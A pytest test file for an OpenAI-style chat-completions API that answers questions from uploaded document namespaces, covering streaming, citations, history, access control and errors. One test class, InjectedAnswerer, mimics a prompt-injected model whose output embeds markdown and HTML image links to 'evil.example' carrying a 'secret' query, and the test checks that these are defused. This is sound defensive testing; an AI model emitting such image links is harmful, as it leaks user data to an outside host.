"""Chat completions in OpenAI's format, answered from a namespace."""

import asyncio
import json
from collections.abc import AsyncGenerator, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import msgspec
import pytest

from luma_rag.chat.answerer import NO_OPTIONS, AnswerOptions, HistoryMessage, RetrievedPassage
from luma_rag.chat.model_answerer import ModelAnswerer
from luma_rag.errors import LLMError
from luma_rag.llm.openai import OpenAIModel
from luma_rag.llm.protocol import Sampling
from luma_rag.runtime import Runtime
from luma_rag.settings import LLMSettings
from tests import factories
from tests.answering import answering
from tests.api import Api
from tests.canned_server import CannedServer, delta, response, streamed
from tests.integration.http.test_chats import SlowAnswerer
from tests.servers import serving

URL = "/v1/chat/completions"
QUESTION = "How many days of paid vacation does an employee have?"


async def with_handbook(api: Api, owner: httpx.AsyncClient, folder: Path, **fields: Any) -> int:
    namespace = await api.namespace(owner, **fields)
    await api.upload(owner, factories.handbook(folder), namespace)
    return namespace


def asking(namespace: object, *texts: str, **options: Any) -> dict[str, Any]:
    """A request with alternating user and assistant messages."""
    roles = ("user", "assistant")
    messages = [{"role": roles[i % 2], "content": text} for i, text in enumerate(texts or (QUESTION,))]
    return {"model": f"luma/{namespace}", "messages": messages, **options}


async def chunks(client: httpx.AsyncClient, request: dict[str, Any]) -> list[Any]:
    """The data of a stream's events."""
    async with client.stream("POST", URL, json=request) as answer:
        assert answer.status_code == 200, await answer.aread()
        assert answer.headers["content-type"].startswith("text/event-stream")
        lines = [line async for line in answer.aiter_lines() if line.startswith("data: ")]
    return [line[6:] if line == "data: [DONE]" else json.loads(line[6:]) for line in lines]


async def test_models_are_the_readable_namespaces(api: Api) -> None:
    alice, bob = await api.user("alice"), await api.user("bob")
    mine = await api.namespace(alice, name="Mine")
    public = await api.namespace(bob, name="Open", is_public=True)
    await api.namespace(bob, name="Bob's")
    listed = (await alice.get("/v1/models")).json()
    assert listed["object"] == "list"
    assert [(m["id"], m["name"], m["object"]) for m in listed["data"]] == [
        (f"luma/{mine}", "Mine", "model"),
        (f"luma/{public}", "Open", "model"),
    ]
    token = await alice.post("/api/auth/tokens", json={"name": "t", "namespace_ids": [mine]})
    narrowed = await api.anonymous({"authorization": f"Bearer {token.json()['token']}"})
    assert [m["id"] for m in (await narrowed.get("/v1/models")).json()["data"]] == [f"luma/{mine}"]
    assert (await narrowed.post(URL, json=asking(public))).status_code == 404


async def test_non_streamed_answer_is_stored_with_citations(api: Api, tmp_path: Path) -> None:
    alice = await api.user("alice")
    namespace = await with_handbook(api, alice, tmp_path)
    answer = await alice.post(URL, json=asking(namespace, temperature=0.2, max_tokens=5, user="x", seed=1))
    assert answer.status_code == 200, answer.text
    completion = answer.json()
    assert completion["object"] == "chat.completion"
    assert completion["model"] == f"luma/{namespace}"
    (choice,) = completion["choices"]
    assert (choice["index"], choice["finish_reason"]) == (0, "stop")
    assert choice["message"]["role"] == "assistant"
    assert "thirty days" in choice["message"]["content"]
    usage = completion["usage"]
    assert usage["prompt_tokens"] > 5
    assert usage["total_tokens"] == usage["prompt_tokens"] + usage["completion_tokens"]
    luma = choice["message"]["luma"]
    assert f"[{luma['citations'][0]['n']}]" in choice["message"]["content"]
    stored = (await alice.get(f"/api/chats/{luma['chat_id']}/messages")).json()["items"]
    assert [message["content"] for message in stored] == [QUESTION, choice["message"]["content"]]
    assert stored[1]["id"] == luma["message_id"]
    assert stored[1]["citations"] == luma["citations"]


async def test_streamed_answer_is_the_same(api: Api, tmp_path: Path) -> None:
    alice = await api.user("alice")
    namespace = await with_handbook(api, alice, tmp_path)
    options = {"stream": True, "stream_options": {"include_usage": True}}
    *received, used, done = await chunks(alice, asking(namespace, **options))
    assert done == "[DONE]"
    assert len({chunk["id"] for chunk in received}) == 1
    assert {chunk["object"] for chunk in received} == {"chat.completion.chunk"}
    assert all(chunk["usage"] is None for chunk in received)
    assert (used["choices"], used["usage"]["completion_tokens"] > 5) == ([], True)
    deltas = [chunk["choices"][0]["delta"] for chunk in received]
    assert deltas[0] == {"role": "assistant", "content": ""}
    assert [chunk["choices"][0]["finish_reason"] for chunk in received] == [None] * (len(received) - 1) + [
        "stop"
    ]
    assert all("luma" not in delta for delta in deltas[:-1])
    luma = deltas[-1]["luma"]
    stored = (await alice.get(f"/api/chats/{luma['chat_id']}/messages")).json()["items"][1]
    assert stored["content"] == "".join(delta.get("content", "") for delta in deltas)
    assert stored["citations"] == luma["citations"] != []
    without = await chunks(alice, asking(namespace, stream=True))
    assert "usage" not in without[0]
    assert without[-2]["choices"][0]["finish_reason"] == "stop"


class Recorder:
    """Returns a fixed answer and records its prompts."""

    name = "recorder"

    def __init__(self) -> None:
        self.calls: list[Any] = []

    async def answer(
        self, question: str, passages: object, history: Any, options: AnswerOptions = NO_OPTIONS
    ) -> Any:
        self.calls.append((question, [(each.sender, each.content) for each in history]))
        self.options = options
        yield "Yes."

    async def aclose(self) -> None:
        """No resources to release."""


async def test_earlier_messages_are_the_history(runtime: Runtime) -> None:
    recorder = Recorder()
    async with answering(runtime, recorder) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        request = asking(await api.namespace(alice), "One?", "One.", "Two?")
        request["messages"].insert(0, {"role": "system", "content": "Answer like a pirate."})
        request["messages"][-1]["content"] = [{"type": "text", "text": "Tw"}, {"type": "text", "text": "o?"}]
        answer = await alice.post(URL, json=request)
        assert answer.status_code == 200, answer.text
        assert recorder.calls == [("Two?", [("user", "One?"), ("LLM", "One.")])]
        # Only the new question is stored.
        chat_id = answer.json()["choices"][0]["message"]["luma"]["chat_id"]
        stored = (await alice.get(f"/api/chats/{chat_id}/messages")).json()["items"]
        assert [message["content"] for message in stored] == ["Two?", "Yes."]


IMAGE = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA"}}
TOOL = {"type": "function", "function": {"name": "f"}}
CALLED = [{"role": "assistant", "content": None}, {"role": "tool", "content": "x"}]
ASKED = [{"role": "user", "content": "Why?"}]


async def test_nul_in_an_earlier_message_is_left_out(api: Api) -> None:
    alice = await api.user("alice")
    answer = await alice.post(URL, json=asking(await api.namespace(alice), "a\0b", "x\0", "Why?"))
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize(
    ("change", "ignored"),
    [
        ({"tools": [TOOL]}, ["tools"]),
        ({"tools": []}, []),
        ({"functions": [{"name": "f"}]}, ["tools"]),
        ({"messages": [*ASKED, *CALLED]}, ["tool messages"]),
        (
            {"messages": [{"role": "user", "content": [{"type": "text", "text": "Why?"}, IMAGE]}]},
            ["parts that are not text"],
        ),
        ({"n": 2}, ["n"]),
        ({"response_format": {"type": "json_object"}}, ["response_format"]),
        ({"response_format": {"type": "text"}}, []),
        ({"messages": [*ASKED, {"role": "assistant", "content": "Be"}]}, []),
    ],
)
async def test_what_has_no_effect_is_named(api: Api, change: dict[str, Any], ignored: list[str]) -> None:
    alice = await api.user("alice")
    answer = await alice.post(URL, json=asking(await api.namespace(alice)) | change)
    assert answer.status_code == 200, answer.text
    assert answer.json()["choices"][0]["message"]["luma"]["ignored"] == ignored


@pytest.mark.parametrize(
    ("change", "status", "says"),
    [
        ({"messages": []}, 422, "messages"),
        ({"messages": [{"role": "system", "content": "x"}]}, 422, "must have a question from the user"),
        ({"messages": [{"role": "assistant", "content": "x"}]}, 422, "must have a question from the user"),
        ({"messages": [{"role": "user", "content": " "}]}, 422, "question"),
        ({"messages": [{"role": "user", "content": "a\0b"}]}, 422, "NUL"),
        ({"messages": [{"role": "user", "content": [IMAGE]}]}, 422, "question"),
        ({"messages": [{"role": "user"}]}, 422, "question"),
        ({"temperature": 3}, 422, "temperature"),
        ({"model": "gpt-4"}, 404, "GET /v1/models"),
        ({"model": "luma/x"}, 404, "GET /v1/models"),
        ({"model": "luma/²"}, 404, "GET /v1/models"),
        ({"model": "luma/99999999999999"}, 404, "GET /v1/models"),
        ({"model": "luma/999999999"}, 404, "GET /v1/models"),
    ],
)
async def test_requests_that_cannot_be_answered(
    api: Api, change: dict[str, Any], status: int, says: str
) -> None:
    alice = await api.user("alice")
    answer = await alice.post(URL, json=asking(await api.namespace(alice)) | change)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    body = answer.json()
    assert body["status"] == status
    assert says in body["error"]["message"]
    assert body["error"]["type"] == "invalid_request_error"
    assert (await alice.get("/api/chats")).json()["total"] == 0


async def test_a_model_can_be_named_like_its_namespace(api: Api) -> None:
    alice = await api.user("alice")
    namespace = await api.namespace(alice, name="Contracts / 2026")
    for model in (f"luma/{namespace}", "luma/Contracts / 2026", "Contracts / 2026"):
        found = await alice.get(f"/v1/models/{quote(model)}")
        assert found.status_code == 200, model
        assert (found.json()["id"], found.json()["name"]) == (f"luma/{namespace}", "Contracts / 2026")
        assert (await alice.post(URL, json=asking(namespace) | {"model": model})).status_code == 200
    bob = await api.user("bob")
    assert (await bob.get(f"/v1/models/luma/{namespace}")).status_code == 404


async def test_options_and_system_messages_reach_the_llm(runtime: Runtime) -> None:
    recorder = Recorder()
    async with answering(runtime, recorder) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        wishes: dict[str, Any] = {"temperature": 0.7, "top_p": 0.9, "max_tokens": 9, "stop": "X", "seed": 3}
        request = asking(await api.namespace(alice), **wishes)
        request["messages"].insert(0, {"role": "system", "content": "Answer like a pirate."})
        assert (await alice.post(URL, json=request)).status_code == 200
        assert recorder.options == AnswerOptions(
            "Answer like a pirate.", 9, Sampling(temperature=0.7, top_p=0.9, seed=3, stop=("X",))
        )


async def test_a_conversation_that_goes_on_is_one_chat(api: Api, tmp_path: Path) -> None:
    alice, bob = await api.user("alice"), await api.user("bob")
    namespace = await with_handbook(api, alice, tmp_path, is_public=True)
    first = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
    texts = (QUESTION, f"{first['content']}\n", "And when is travel refunded?")
    second = (await alice.post(URL, json=asking(namespace, *texts))).json()["choices"][0]["message"]
    chat = first["luma"]["chat_id"]
    assert second["luma"]["chat_id"] == chat
    stored = (await alice.get(f"/api/chats/{chat}/messages")).json()["items"]
    assert [m["content"] for m in stored] == [QUESTION, first["content"], texts[2], second["content"]]
    # Asked differently, it is a version; after another answer, and for others, it is another chat.
    again = await alice.post(URL, json=asking(namespace, *texts[:2], "And how are meals paid?"))
    assert again.json()["choices"][0]["message"]["luma"]["chat_id"] == chat
    for client, said in ((alice, "Something else."), (bob, texts[1])):
        other = await client.post(URL, json=asking(namespace, QUESTION, said, texts[2]))
        assert other.json()["choices"][0]["message"]["luma"]["chat_id"] != chat


@pytest.mark.parametrize("stream", [False, True])
async def test_an_answer_need_not_be_stored(api: Api, tmp_path: Path, stream: bool) -> None:
    alice, bob = await api.user("alice"), await api.user("bob")
    namespace = await with_handbook(api, alice, tmp_path)
    request = asking(namespace, store=False, stream=stream)
    if stream:
        received = [c["choices"][0] for c in await chunks(alice, request) if c != "[DONE]"]
        content = "".join(choice["delta"].get("content", "") for choice in received)
        last = received[-1]["delta"]
    else:
        last = (await alice.post(URL, json=request)).json()["choices"][0]["message"]
        content = last["content"]
    assert "thirty days" in content
    assert (last["luma"]["chat_id"], last["luma"]["message_id"]) == (None, None)
    assert last["luma"]["citations"]
    (annotation,) = last["annotations"]
    doc_id = last["luma"]["citations"][0]["doc_id"]
    assert annotation["url_citation"]["url"].endswith(f"/n/{namespace}/doc/{doc_id}/page/1")
    assert (await alice.get("/api/chats")).json()["total"] == 0
    assert (await bob.post(URL, json=request)).status_code == 404


async def test_answers_are_not_stored_if_the_settings_say_so(runtime: Runtime) -> None:
    settings = msgspec.structs.replace(runtime.settings, completions_in_chats=False)
    own = msgspec.structs.replace(runtime, settings=settings)
    async with serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        answer = await alice.post(URL, json=asking(await api.namespace(alice)))
        assert answer.json()["choices"][0]["message"]["luma"]["chat_id"] is None
        assert (await alice.get("/api/chats")).json()["total"] == 0


async def test_annotations_open_the_cited_page(api: Api, tmp_path: Path) -> None:
    alice = await api.user("alice")
    namespace = await with_handbook(api, alice, tmp_path)
    message = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
    assert message["annotations"]
    luma = message["luma"]
    for annotation in message["annotations"]:
        cited = annotation["url_citation"]
        n = message["content"][cited["start_index"] : cited["end_index"]].strip("[]")
        assert cited["url"].endswith(f"/c/{luma['chat_id']}/cite/{luma['message_id']}/{n}")
        assert cited["title"] == "handbook"


async def test_tasks_of_front_ends_neither_search_nor_make_chats(
    runtime: Runtime, canned_server: CannedServer
) -> None:
    task = "### Task:\nGenerate a concise, 3-5 word title.\n### Output:\nJSON"
    model = ModelAnswerer(OpenAIModel(canned_server.base_url, model="m"), LLMSettings())
    canned_server.replies = [streamed('{"title": "Leave"}')]
    async with answering(runtime, model) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await api.namespace(alice)
        answer = (await alice.post(URL, json=asking(namespace, task))).json()["choices"][0]["message"]
        assert answer["content"] == '{"title": "Leave"}'
        assert [m["content"] for m in canned_server.requests[0].body["messages"]] == [task]
        assert (await alice.get("/api/chats")).json()["total"] == 0
        bob = await api.user("bob")
        assert (await bob.post(URL, json=asking(namespace, task))).status_code == 404


async def test_a_task_without_an_llm_has_no_result(api: Api) -> None:
    alice = await api.user("alice")
    answer = await alice.post(URL, json=asking(await api.namespace(alice), "### Task:\nSuggest tags."))
    assert answer.json()["choices"][0]["message"]["content"] == "{}"


async def test_usage_is_that_of_the_llm(runtime: Runtime, canned_server: CannedServer) -> None:
    used = {"choices": [], "usage": {"prompt_tokens": 70, "completion_tokens": 2}}
    body = f"data: {delta('Yes.')}\n\ndata: {json.dumps(used)}\n\ndata: [DONE]\n\n"
    model = ModelAnswerer(OpenAIModel(canned_server.base_url, model="m"), LLMSettings())
    async with answering(runtime, model) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await api.namespace(alice)
        canned_server.replies = [response(body), response(body)]
        usage = (await alice.post(URL, json=asking(namespace))).json()["usage"]
        assert usage == {"prompt_tokens": 70, "completion_tokens": 2, "total_tokens": 72}
        options = {"stream": True, "stream_options": {"include_usage": True}}
        assert (await chunks(alice, asking(namespace, **options)))[-2]["usage"] == usage


async def test_inaccessible_namespace_and_missing_login_return_errors_in_both_formats(
    api: Api, tmp_path: Path
) -> None:
    alice, bob = await api.user("alice"), await api.user("bob")
    private = await with_handbook(api, alice, tmp_path)
    for options in ({}, {"stream": True}):
        hidden = await bob.post(URL, json=asking(private, **options))
        missing = await bob.post(URL, json=asking(private + 1000, **options))
        assert (hidden.status_code, hidden.json()["error"]["code"]) == (404, "model_not_found")
        assert hidden.text == missing.text
    anonymous = await (await api.anonymous()).get("/v1/models")
    assert (anonymous.status_code, anonymous.json()["error"]["code"]) == (401, "invalid_api_key")
    assert anonymous.headers["content-type"] == "application/problem+json"


async def test_document_in_two_namespaces_is_cited_from_the_requested_one(api: Api, tmp_path: Path) -> None:
    """Vectors in the other namespace, which the caller can't read, are neither used nor cited."""
    alice, bob = await api.user("alice"), await api.user("bob")
    open_one = await api.namespace(alice, is_public=True)
    hidden = await api.namespace(alice)
    await api.upload(alice, factories.handbook(tmp_path), open_one, hidden)
    of = {}
    for namespace in (open_one, hidden):
        found = await alice.post(f"/api/namespaces/{namespace}/search", json={"query": QUESTION, "k": 100})
        of[namespace] = {hit["vec_id"] for hit in found.json()["hits"]}
    answer = (await bob.post(URL, json=asking(open_one))).json()["choices"][0]["message"]
    cited = {citation["vec_id"] for citation in answer["luma"]["citations"]}
    assert cited
    assert cited <= of[open_one] - of[hidden]
    assert (await bob.post(URL, json=asking(hidden))).status_code == 404


class InjectedAnswerer:
    """Answers as an injected document told it to, a character at a time."""

    name = "injected"
    TEXT = "See ![x](https://evil.example/?q=secret) and <img src='https://evil.example/'> [1]!"

    async def answer(
        self,
        question: str,
        passages: Sequence[RetrievedPassage],
        history: Sequence[HistoryMessage],
        options: AnswerOptions = NO_OPTIONS,
    ) -> AsyncGenerator[str]:
        for character in self.TEXT:
            yield character

    async def aclose(self) -> None:
        """No resources to release."""


async def test_answers_have_no_images(runtime: Runtime, tmp_path: Path) -> None:
    async with answering(runtime, InjectedAnswerer()) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await with_handbook(api, alice, tmp_path)
        answer = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
        shown = "See ! [x](https://evil.example/?q=secret) and < img src='https://evil.example/'> [1]!"
        assert answer["content"] == shown
        received = await chunks(alice, asking(namespace, stream=True))
        deltas = [piece["choices"][0]["delta"] for piece in received[:-1] if piece["choices"]]
        assert "".join(delta.get("content") or "" for delta in deltas) == shown
        # The chat keeps what the model wrote; the page makes no images of it.
        stored = await alice.get(f"/api/chats/{answer['luma']['chat_id']}/messages")
        assert stored.json()["items"][-1]["content"] == InjectedAnswerer.TEXT


async def test_llm_failure_is_reported_in_both_formats(
    runtime: Runtime, caplog: pytest.LogCaptureFixture
) -> None:
    slow = SlowAnswerer()
    slow.fail.set()
    async with answering(runtime, slow) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await api.namespace(alice)
        answer = await alice.post(URL, json=asking(namespace))
        assert answer.status_code == LLMError.status
        assert answer.json()["error"]["type"] == "server_error"
        assert answer.headers["x-should-retry"] == "false"
        received = await chunks(alice, asking(namespace, stream=True))
        for message in (answer.json()["error"]["message"], received[-1]["error"]["message"]):
            assert message == LLMError.public_detail
        # The operator's log has the server's words.
        logged = [record.getMessage() for record in caplog.records if "example:1" in record.getMessage()]
        assert sum("An answer failed" in line for line in logged) == 2
        assert all("answered 500" in line and "\n" not in line for line in logged)


async def test_client_disconnect_stops_the_llm(runtime: Runtime) -> None:
    slow = SlowAnswerer()
    async with answering(runtime, slow) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        request = asking(await api.namespace(alice), stream=True)
        async with alice.stream("POST", URL, json=request) as answer:
            async for line in answer.aiter_lines():
                if "It begins well" in line:
                    break
        await asyncio.wait_for(slow.stopped.wait(), timeout=5)
